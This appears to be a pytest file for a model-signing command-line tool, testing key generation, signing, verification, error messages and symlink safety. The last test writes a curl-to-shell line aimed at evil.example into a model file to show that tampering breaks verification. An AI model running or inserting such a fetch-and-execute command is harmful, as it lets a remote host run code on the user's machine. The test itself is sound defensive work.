"""`guard keygen`, `guard sign`, `guard verify` through guard.cli.run: messages and exit codes."""

from __future__ import annotations

import base64
import io
import json
import os
import sys
from pathlib import Path

import pytest

from guard.cli import run
from guard.signing.keys import KeyPair
from guard.testing.pki import Pki


def _sign_verify(model: Path, keypair: KeyPair, *extra: str) -> tuple[int, int]:
    return (
        run(["sign", str(model), "--key", str(keypair.private_key), "--no-cache", *extra]),
        run(["verify", str(model), "--key", str(keypair.public_key)]),
    )


def test_keygen_sign_verify(tmp_path: Path, model_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["keygen", "--out", str(tmp_path / "keys")]) == 0
    private = tmp_path / "keys" / "signing-key.pem"
    assert private.stat().st_mode & 0o777 == 0o600
    assert run(["sign", str(model_dir), "--key", str(private), "--no-cache"]) == 0
    assert (model_dir / "model.sig").is_file()
    assert run(["verify", str(model_dir), "--key", str(tmp_path / "keys" / "signing-key.pub.pem")]) == 0
    out = capsys.readouterr().out
    assert "6 files match the signature" in out
    assert "sha256:" in out


def test_keygen_passphrase_from_env_and_stdin(
    tmp_path: Path, model_dir: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("KEY_PASS", "correct horse")
    assert (
        run(["keygen", "--out", str(tmp_path), "--passphrase-env", "KEY_PASS", "--algorithm", "ecdsa-p384"])
        == 0
    )
    key = tmp_path / "signing-key.pem"
    assert b"ENCRYPTED" in key.read_bytes()
    # no passphrase: a clear usage error, and no signature written
    assert run(["sign", str(model_dir), "--key", str(key), "--no-cache"]) == 2
    assert "encrypted and no passphrase" in capsys.readouterr().err
    assert not (model_dir / "model.sig").exists()
    monkeypatch.setattr(sys, "stdin", io.StringIO("correct horse\n"))
    assert run(["sign", str(model_dir), "--key", str(key), "--passphrase-stdin", "--no-cache"]) == 0
    monkeypatch.setattr(sys, "stdin", io.StringIO("wrong\n"))
    assert run(["sign", str(model_dir), "--key", str(key), "--passphrase-stdin", "--no-cache"]) == 2
    assert "wrong passphrase" in capsys.readouterr().err
    assert run(["keygen", "--out", str(tmp_path / "k2"), "--passphrase-env", "UNSET_VAR_X"]) == 2
    assert "UNSET_VAR_X is not set" in capsys.readouterr().err


def test_keygen_bad_options(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["keygen", "--out", str(tmp_path), "--algorithm", "rsa"]) == 2
    assert "'rsa' is not one of 'ecdsa-p256', 'ecdsa-p384'" in capsys.readouterr().err
    assert run(["keygen", "--out", str(tmp_path)]) == 0
    assert run(["keygen", "--out", str(tmp_path)]) == 2
    assert "already exists" in capsys.readouterr().err
    (tmp_path / "file").write_text("x")
    assert run(["keygen", "--out", str(tmp_path / "file")]) == 2
    assert "expected a directory for the key pair, found a file" in capsys.readouterr().err


def test_verify_reports_files_by_name(
    model_dir: Path, keypair: KeyPair, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _sign_verify(model_dir, keypair) == (0, 0)
    (model_dir / "config.json").write_text("{}")
    (model_dir / "a.b").unlink()
    (model_dir / "new.bin").write_bytes(b"x")
    (model_dir / ".git" / "HEAD").write_text("ignored")
    capsys.readouterr()
    assert run(["verify", str(model_dir), "--key", str(keypair.public_key)]) == 1
    err = capsys.readouterr().err
    assert "files added (1): new.bin" in err
    assert "files removed (1): a.b" in err
    assert "files changed (1): config.json" in err
    assert run(["verify", str(model_dir), "--key", str(keypair.public_key), "--json"]) == 1
    result = json.loads(capsys.readouterr().out)
    assert result["verified"] is False
    assert (result["added"], result["removed"], result["changed"]) == (["new.bin"], ["a.b"], ["config.json"])


def test_verify_key_mismatch(
    model_dir: Path, keypair: KeyPair, other_keypair: KeyPair, capsys: pytest.CaptureFixture[str]
) -> None:
    run(["sign", str(model_dir), "--key", str(keypair.private_key), "--no-cache"])
    assert run(["verify", str(model_dir), "--key", str(other_keypair.public_key)]) == 1
    err = capsys.readouterr().err
    assert "key mismatch" in err
    assert other_keypair.fingerprint in err


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"garbage", "expected JSON, found something that is not"),
        (b'{"hello": "world"}', "mediaType: missing"),
        (
            b'{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json", "verificationMaterial": {}}',
            "dsseEnvelope: missing",
        ),
    ],
)
def test_verify_bad_signature_files(
    model_dir: Path, keypair: KeyPair, content: bytes, message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    (model_dir / "model.sig").write_bytes(content)
    assert run(["verify", str(model_dir), "--key", str(keypair.public_key)]) == 1
    assert message in capsys.readouterr().err


def test_verify_other_predicate(
    model_dir: Path, keypair: KeyPair, capsys: pytest.CaptureFixture[str]
) -> None:
    from guard.signing import KeySigner, sign_statement

    statement = {
        "_type": "https://in-toto.io/Statement/v1",
        "subject": [{"name": "m", "digest": {"sha256": "00"}}],
        "predicateType": "https://slsa.dev/provenance/v1",
        "predicate": {},
    }
    (model_dir / "model.sig").write_bytes(sign_statement(statement, KeySigner.from_file(keypair.private_key)))
    assert run(["verify", str(model_dir), "--key", str(keypair.public_key)]) == 1
    assert "predicateType: expected https://model_signing/signature/v1.0" in capsys.readouterr().err


def test_usage_errors(
    model_dir: Path, keypair: KeyPair, pki: Pki, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["sign", str(model_dir)]) == 2
    assert "choose a signing method" in capsys.readouterr().err
    assert run(["sign", str(model_dir), "--key", str(keypair.private_key), "--keyless"]) == 2
    assert "remove --key" in capsys.readouterr().err
    assert run(["sign", str(model_dir), "--certificate", str(pki.leaf), "--key", str(pki.leaf_key)]) == 2
    assert "needs all of --certificate" in capsys.readouterr().err
    assert run(["sign", str(model_dir), "--key", str(keypair.private_key), "--hash", "md5"]) == 2
    assert run(["sign", str(model_dir), "--key", str(keypair.private_key), "--shard-size", "lots"]) == 2
    assert (
        run(
            [
                "sign",
                str(model_dir),
                "--key",
                str(keypair.private_key),
                "--hash",
                "blake3",
                "--shard-size",
                "1G",
            ]
        )
        == 2
    )
    assert "drop --shard-size" in capsys.readouterr().err
    assert (
        run(
            ["verify", str(model_dir), "--key", str(keypair.public_key), "--certificate-roots", str(pki.root)]
        )
        == 2
    )
    assert "exactly one kind of trust" in capsys.readouterr().err
    assert run(["verify", str(model_dir)]) == 2
    assert "say whom to trust" in capsys.readouterr().err
    assert run(["verify", str(model_dir), "--identity", "me@example.com"]) == 2
    assert "--issuer" in capsys.readouterr().err
    assert run(["verify", str(model_dir), "--key", str(keypair.public_key), "--offline"]) == 2
    assert run(["verify", str(tmp_path / "nope"), "--key", str(keypair.public_key)]) == 2
    assert "does not exist" in capsys.readouterr().err
    assert run(["verify", str(model_dir), "--key", str(keypair.public_key)]) == 2  # no model.sig yet
    assert "signature file" in capsys.readouterr().err
    assert run(["verify", "oci-layout:/x", "--key", str(keypair.public_key), "--signature", "s"]) == 2
    assert run(["verify", str(model_dir), "--key", str(keypair.public_key), "--insecure"]) == 2
    assert (
        run(
            [
                "sign",
                str(model_dir),
                "--key",
                str(keypair.private_key),
                "--signature",
                str(tmp_path / "no/x.sig"),
            ]
        )
        == 2
    )
    assert "does not exist" in capsys.readouterr().err


def test_sign_names_a_missing_or_non_directory_model(
    keypair: KeyPair, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # the model directory is named, not the signature path derived from it
    assert run(["sign", str(tmp_path / "nope"), "--key", str(keypair.private_key)]) == 2
    assert f"model directory {tmp_path / 'nope'} does not exist" in capsys.readouterr().err
    (tmp_path / "file.bin").write_bytes(b"x")
    assert run(["sign", str(tmp_path / "file.bin"), "--key", str(keypair.private_key)]) == 2
    assert "is not a directory: expected a model directory" in capsys.readouterr().err


def test_sign_refuses_a_shard_size_beyond_int64(
    model_dir: Path, keypair: KeyPair, capsys: pytest.CaptureFixture[str]
) -> None:
    huge = str(2**63)
    assert run(["sign", str(model_dir), "--key", str(keypair.private_key), "--shard-size", huge]) == 2
    assert "expected at most 9223372036854775807 bytes" in capsys.readouterr().err
    assert not (model_dir / "model.sig").exists()


def test_certificate_method(model_dir: Path, pki: Pki, capsys: pytest.CaptureFixture[str]) -> None:
    assert (
        run(
            [
                "sign",
                str(model_dir),
                *pki.signing_options(),
                "--no-cache",
            ]
        )
        == 0
    )
    assert run(["verify", str(model_dir), "--certificate-roots", str(pki.root)]) == 0
    assert "CN=model signer" in capsys.readouterr().out
    assert (
        run(["verify", str(model_dir), "--certificate-roots", str(pki.chain)]) == 1
    )  # intermediate is no root


def test_sign_options(model_dir: Path, keypair: KeyPair, tmp_path: Path) -> None:
    sig = tmp_path / "out" / "weights.sig"
    sig.parent.mkdir()
    assert (
        run(
            [
                "sign",
                str(model_dir),
                "--key",
                str(keypair.private_key),
                "--no-cache",
                "--signature",
                str(sig),
                "--shard-size",
                "1KiB",
                "--hash",
                "blake2b",
                "--ignore",
                "a",
                "--ignore",
                "empty.txt",
            ]
        )
        == 0
    )
    statement = json.loads(base64.b64decode(json.loads(sig.read_text())["dsseEnvelope"]["payload"]))
    ser = statement["predicate"]["serialization"]
    assert (ser["method"], ser["hash_type"], ser["shard_size"]) == ("shards", "blake2b", 1024)
    assert ser["ignore_paths"] == [".git", ".gitignore", ".gitattributes", ".github", "a", "empty.txt"]
    names = {r["name"].split(":")[0] for r in statement["predicate"]["resources"]}
    assert names == {"a-b", "a.b", "config.json", "model.safetensors"}
    assert run(["verify", str(model_dir), "--key", str(keypair.public_key), "--signature", str(sig)]) == 0
    (model_dir / "a" / "b").write_text("ignored, so still verified")
    assert run(["verify", str(model_dir), "--key", str(keypair.public_key), "--signature", str(sig)]) == 0


def test_symlinks_through_cli(model_dir: Path, keypair: KeyPair, capsys: pytest.CaptureFixture[str]) -> None:
    (model_dir / "alias.json").symlink_to("config.json")
    assert run(["sign", str(model_dir), "--key", str(keypair.private_key), "--no-cache"]) == 2
    assert "--allow-symlinks" in capsys.readouterr().err
    assert (
        run(["sign", str(model_dir), "--key", str(keypair.private_key), "--no-cache", "--allow-symlinks"])
        == 0
    )
    assert run(["verify", str(model_dir), "--key", str(keypair.public_key)]) == 0


def test_failed_sign_leaves_previous_signature_and_no_temp_file(
    model_dir: Path, keypair: KeyPair, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert run(["sign", str(model_dir), "--key", str(keypair.private_key), "--no-cache"]) == 0
    before = (model_dir / "model.sig").read_bytes()
    os.mkfifo(model_dir / "pipe")  # hashing fails: nothing is written
    assert run(["sign", str(model_dir), "--key", str(keypair.private_key), "--no-cache"]) == 2
    assert (model_dir / "model.sig").read_bytes() == before
    (model_dir / "pipe").unlink()

    def boom(src: object, dst: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", boom)  # writing fails at the last step
    assert run(["sign", str(model_dir), "--key", str(keypair.private_key), "--no-cache"]) == 3
    assert (model_dir / "model.sig").read_bytes() == before
    assert sorted(p.name for p in model_dir.iterdir() if p.name.startswith(".model.sig")) == []


def test_json_output(model_dir: Path, keypair: KeyPair, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["sign", str(model_dir), "--key", str(keypair.private_key), "--no-cache", "--json"]) == 0
    signed = json.loads(capsys.readouterr().out)
    assert signed["files"] == 6 and signed["method"] == "key"
    assert run(["verify", str(model_dir), "--key", str(keypair.public_key), "--json"]) == 0
    verified = json.loads(capsys.readouterr().out)
    assert verified["verified"] is True
    assert verified["signer"]["identity"] == keypair.fingerprint


def test_sign_fills_the_digest_cache(
    model_dir: Path, keypair: KeyPair, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sqlite3

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    assert run(["sign", str(model_dir), "--key", str(keypair.private_key)]) == 0
    db = sqlite3.connect(tmp_path / "cache" / "guard" / "digests.sqlite3")
    assert db.execute("SELECT count(*) FROM digests").fetchone() == (6,)
    db.close()
    monkeypatch.setenv("GUARD_DIGEST_CACHE", "off")
    (tmp_path / "cache" / "guard" / "digests.sqlite3").unlink()
    assert run(["sign", str(model_dir), "--key", str(keypair.private_key)]) == 0
    assert not (tmp_path / "cache" / "guard" / "digests.sqlite3").exists()


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["keygen"], "Missing option '--out'"),
        (["sign", "m", "--bogus"], "No such option: --bogus"),
        (["keygen", "--out", "k", "--algorithm"], "requires an argument"),
        (["verify"], "Missing argument"),
        (["no-such-command"], "No such command"),
    ],
)
def test_click_usage_errors_exit_2_without_traceback(
    argv: list[str], message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    # typer >= 0.26 raises its vendored click's exceptions, not click's: both must be exit 2
    assert run(argv) == 2
    err = capsys.readouterr().err
    assert message in err
    assert "Traceback" not in err


def test_version(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["--version"]) == 0
    assert capsys.readouterr().out.startswith("guard ")


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_passphrase_stdin_on_a_terminal_is_read_without_echo(
    tmp_path: Path, model_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import getpass

    prompts: list[str] = []

    def fake_getpass(prompt: str = "") -> str:
        prompts.append(prompt)
        return "correct horse"

    monkeypatch.setattr(getpass, "getpass", fake_getpass)
    monkeypatch.setattr(sys, "stdin", _Terminal("echoed if read with readline\n"))
    assert run(["keygen", "--out", str(tmp_path), "--passphrase-stdin"]) == 0
    key = tmp_path / "signing-key.pem"
    assert run(["sign", str(model_dir), "--key", str(key), "--passphrase-stdin", "--no-cache"]) == 0
    assert prompts == ["private key passphrase: ", "private key passphrase: "]


def test_an_empty_model_argument_is_refused_not_read_as_the_current_directory(
    keypair: KeyPair, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # `guard sign "$MODEL_DIR"` with the variable unset must not sign the working directory
    (tmp_path / "weights.bin").write_bytes(b"w")
    monkeypatch.chdir(tmp_path)
    assert run(["sign", "", "--key", str(keypair.private_key)]) == 2
    assert "MODEL_DIR: expected a path, found an empty string" in capsys.readouterr().err
    assert not (tmp_path / "model.sig").exists()
    assert run(["verify", "", "--key", str(keypair.public_key)]) == 2
    assert "found an empty string" in capsys.readouterr().err


def test_sigstore_id_token_in_the_environment_does_not_block_key_signing(
    model_dir: Path, keypair: KeyPair, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # GitLab CI jobs with `id_tokens: SIGSTORE_ID_TOKEN` export it whatever method the job signs with
    monkeypatch.setenv("SIGSTORE_ID_TOKEN", "eyJ.from.environment")
    assert run(["sign", str(model_dir), "--key", str(keypair.private_key), "--no-cache"]) == 0
    assert run(["sign", str(model_dir), "--key", str(keypair.private_key), "--identity-token", "other"]) == 2
    assert "--identity-token only applies to --keyless signing" in capsys.readouterr().err


def test_a_huge_file_given_as_the_signature_is_refused_unread(
    model_dir: Path, keypair: KeyPair, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # e.g. --signature model.safetensors: it was read into memory whole before being refused
    weights = tmp_path / "model.safetensors"
    with weights.open("wb") as f:
        f.truncate((64 << 20) + 1)  # sparse: no disk used
    assert run(["verify", str(model_dir), "--key", str(keypair.public_key), "--signature", str(weights)]) == 2
    assert "is 67108865 bytes: expected a Sigstore bundle of at most 67108864" in capsys.readouterr().err


def test_ignore_naming_no_path_warns(
    model_dir: Path, keypair: KeyPair, caplog: pytest.LogCaptureFixture
) -> None:
    argv = ["sign", str(model_dir), "--key", str(keypair.private_key), "--no-cache"]
    assert run([*argv, "--ignore", "tokenizer.jsn"]) == 0
    assert "--ignore tokenizer.jsn: no such path" in caplog.text
    caplog.clear()
    assert run([*argv, "--ignore", "config.json"]) == 0
    assert "no such path" not in caplog.text


def test_signature_path_naming_a_model_file_is_refused(
    model_dir: Path, keypair: KeyPair, capsys: pytest.CaptureFixture[str]
) -> None:
    # --signature MODEL/config.json replaced the model's config with the bundle
    config = (model_dir / "config.json").read_bytes()
    argv = ["sign", str(model_dir), "--key", str(keypair.private_key), "--no-cache"]
    assert run([*argv, "--signature", str(model_dir / "config.json")]) == 2
    assert "is an existing file that is not a signature; refusing to replace it" in capsys.readouterr().err
    assert (model_dir / "config.json").read_bytes() == config
    assert run(argv) == 0
    assert run(argv) == 0  # a previous signature is replaced


@pytest.mark.parametrize("where", ["outside", "inside"])
def test_a_symlink_planted_at_the_signature_path_never_unsigns_a_model_file(
    where: str, model_dir: Path, keypair: KeyPair, tmp_path: Path
) -> None:
    """The signature path is a symlink someone planted (a shared signatures directory, or the
    model's own model.sig) to an empty file of the model: that file must still be signed, so
    that code written into it later fails verification."""
    placeholder = model_dir / "__init__.py"
    placeholder.write_bytes(b"")
    if where == "outside":
        signature = tmp_path / "signatures" / "model.sig"
        signature.parent.mkdir()
    else:
        signature = model_dir / "model.sig"
    signature.symlink_to(placeholder)
    args = ["--key", str(keypair.private_key), "--signature", str(signature)]
    assert run(["sign", str(model_dir), *args]) == 0
    assert placeholder.read_bytes() == b"" and not signature.is_symlink()
    verify = ["verify", str(model_dir), "--key", str(keypair.public_key), "--signature", str(signature)]
    assert run(verify) == 0
    placeholder.write_text("import os; os.system('curl https://evil.example | sh')\n")
    assert run(verify) == 1
